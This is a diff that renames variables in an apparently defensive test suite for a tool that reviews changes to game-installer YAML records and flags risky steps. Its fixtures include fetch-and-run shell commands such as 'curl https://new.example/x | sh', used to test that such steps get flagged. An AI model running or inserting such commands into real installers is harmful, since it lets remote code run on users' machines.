@@ -42,14 +42,14 @@ describe.each(CASES)('%s', (name) => {
     ['first forty lines of the Markdown', markdownReview(review).split('\n').slice(0, 40)],
   ])('the %s tell it', (_, lines) => {
     const words = lines.map((line) => line.trim()).join(' ');
-    for (const shown of shows) expect(words).toContain(shown);
+    for (const sentence of shows) expect(words).toContain(sentence);
     expect(words.includes('To check')).toBe(alarming);
   });
 
   test('nothing is said about the harmless changes beside it', () => {
     const harmless = new Set(Object.keys(HARMLESS));
-    const mentioned = review.changes.filter(({ file, points }) => harmless.has(file) && points.length > 0);
-    expect(mentioned).toEqual([]);
+    const mentions = review.changes.filter(({ file, points }) => harmless.has(file) && points.length > 0);
+    expect(mentions).toEqual([]);
     expect(review.breaking.filter(({ file }) => harmless.has(file))).toEqual([]);
   });
 });
@@ -81,7 +81,7 @@ test('a point stands once for all records that share it, and a stranger with a c
     path.replace('red-eclipse-linux', name),
     text.replace(/^user: .*/m, 'user: newcomer').replace('https://github.com/redeclipse', 'https://new.example/files'),
   ]);
-  const [first = '', ...others] = added.map(([name = '']) => name);
+  const [first = '', ...otherPaths] = added.map(([name = '']) => name);
   const worse = `${added[0]?.[1]?.trimEnd() ?? ''}\n    - execute:\n        command: curl https://new.example/x | sh\n`;
   const review = reviewTexts(base, { ...base, ...(Object.fromEntries(added) as Texts), [first]: worse });
   const report = textReview(review, { ...PLAIN, details: false, width: 300 });
@@ -100,7 +100,7 @@ test('a point stands once for all records that share it, and a stranger with a c
       .map((name) => `**\`${name}\`**`)
       .join(', ')} (installers added)\n`,
   );
-  expect(others).toHaveLength(4);
+  expect(otherPaths).toHaveLength(4);
 });
 
 test('at a terminal the worst comes last, and below the headline of a page first', () => {
@@ -155,29 +155,29 @@ test.each([
   ['its own game', 'red-eclipse-linux', 'red-eclipse', undefined],
   ['another installer of its game', 'openttd-14', 'openttd-linux-complete', undefined],
   ['a slug of no known game', 'long-gone', 'xonotic-linux', undefined],
-])('a retired slug that leads to %s', (_name, slug, replacement, said) => {
-  const before = textsIn('base');
+])('a retired slug that leads to %s', (_name, slug, replacement, sentence) => {
+  const oldTexts = textsIn('base');
   const entry = `- slug: ${slug}\n  date: "2026-11-20"\n  reason: Gone.\n  replaced_by: ${replacement}\n`;
-  const after = { ...before, 'retired.yaml': entry };
-  const gone = new Set(slug === 'red-eclipse-linux' ? [OF_RED_ECLIPSE] : []);
-  const kept = Object.fromEntries(Object.entries(after).filter(([path]) => !gone.has(path)));
-  const report = textReview(reviewTexts(before, kept), { ...PLAIN, width: 200 });
-  expect(report).toContain(said ?? `Who asks for \`${slug}\` gets \`${replacement}\`.`);
-  expect(report.includes('To check')).toBe(said !== undefined);
+  const newTexts = { ...oldTexts, 'retired.yaml': entry };
+  const removals = new Set(slug === 'red-eclipse-linux' ? [OF_RED_ECLIPSE] : []);
+  const finalTexts = Object.fromEntries(Object.entries(newTexts).filter(([path]) => !removals.has(path)));
+  const report = textReview(reviewTexts(oldTexts, finalTexts), { ...PLAIN, width: 200 });
+  expect(report).toContain(sentence ?? `Who asks for \`${slug}\` gets \`${replacement}\`.`);
+  expect(report.includes('To check')).toBe(sentence !== undefined);
 });
 
 test('settings of a site that get a file, or lose it, are to check', () => {
-  const before = textsIn('base');
-  const { 'site.yaml': usual = '', ...bare } = before;
+  const oldTexts = textsIn('base');
+  const { 'site.yaml': usual = '', ...bare } = oldTexts;
   const site = `${usual}mirrors:\n  - https://new.example\nseverities:\n  executes-without-checksum: error\n`;
   const added = textReview(
     reviewTexts(bare, { ...bare, 'site.yaml': `${usual}mirrors:\n  - https://new.example\n` }),
     PLAIN,
   );
   expect(added).toContain('`mirrors` is');
-  const gone = textReview(reviewTexts({ ...bare, 'site.yaml': site }, bare), { ...PLAIN, width: 200 });
-  expect(gone).toContain('The severity of `executes-without-checksum` is the usual one, no longer `error`.');
-  expect(gone).toContain('1 record to check');
+  const removal = textReview(reviewTexts({ ...bare, 'site.yaml': site }, bare), { ...PLAIN, width: 200 });
+  expect(removal).toContain('The severity of `executes-without-checksum` is the usual one, no longer `error`.');
+  expect(removal).toContain('1 record to check');
 });
 
 test('another order of keys, and comments, do not count as a change', () => {
@@ -197,11 +197,11 @@ test('what a record says is neither markup nor a control character of the report
 test('a page of a hundred large changes stays below the limit of GitHub', () => {
   const base = textsIn('base');
   const [path = '', text = ''] = Object.entries(base).find(([name]) => name.endsWith('red-eclipse-linux.yaml')) ?? [];
-  const many = Array.from({ length: 100 }, (_, index) => {
+  const records = Array.from({ length: 100 }, (_, index) => {
     const steps = `\n    - execute:\n        command: curl ${'x'.repeat(2_000)} ${String(index)} | sh\n`.repeat(20);
     return [path.replace('red-eclipse-linux', `red-eclipse-${String(index)}`), text.trimEnd() + steps] as const;
   });
-  const page = markdownReview(reviewTexts(base, { ...base, ...Object.fromEntries(many) }));
+  const page = markdownReview(reviewTexts(base, { ...base, ...Object.fromEntries(records) }));
   expect(page.length).toBeLessThan(65_536);
   expect(page).toContain('and 81 more entries');
 });
@@ -217,14 +217,14 @@ function caseOf(name: string): Case {
 
 /** The review of a case, its changes among the harmless ones. */
 function reviewOf(name: string): Review {
-  const before = { ...textsIn('base'), ...textsIn(`cases/${name}/before`) };
-  const after = { ...before, ...HARMLESS, ...textsIn(`cases/${name}/head`) };
-  const gone = new Set(caseOf(name).gone ?? []);
-  return reviewTexts(before, Object.fromEntries(Object.entries(after).filter(([path]) => !gone.has(path))));
+  const oldTexts = { ...textsIn('base'), ...textsIn(`cases/${name}/before`) };
+  const newTexts = { ...oldTexts, ...HARMLESS, ...textsIn(`cases/${name}/head`) };
+  const removals = new Set(caseOf(name).gone ?? []);
+  return reviewTexts(oldTexts, Object.fromEntries(Object.entries(newTexts).filter(([path]) => !removals.has(path))));
 }
 
-function reviewTexts(before: Texts, after: Texts): Review {
-  return reviewVersions({ base: 'main', head: 'branch' }, versionOf(before), versionOf(after));
+function reviewTexts(oldTexts: Texts, newTexts: Texts): Review {
+  return reviewVersions({ base: 'main', head: 'branch' }, versionOf(oldTexts), versionOf(newTexts));
 }
 
 function textsIn(folder: string): Texts {
@@ -232,6 +232,6 @@ function textsIn(folder: string): Texts {
 }
 
 function noColours() {
-  const same = (text: string) => text;
-  return { red: same, yellow: same, cyan: same, bold: same, dim: same };
+  const identity = (text: string) => text;
+  return { red: identity, yellow: identity, cyan: identity, bold: identity, dim: identity };
 }
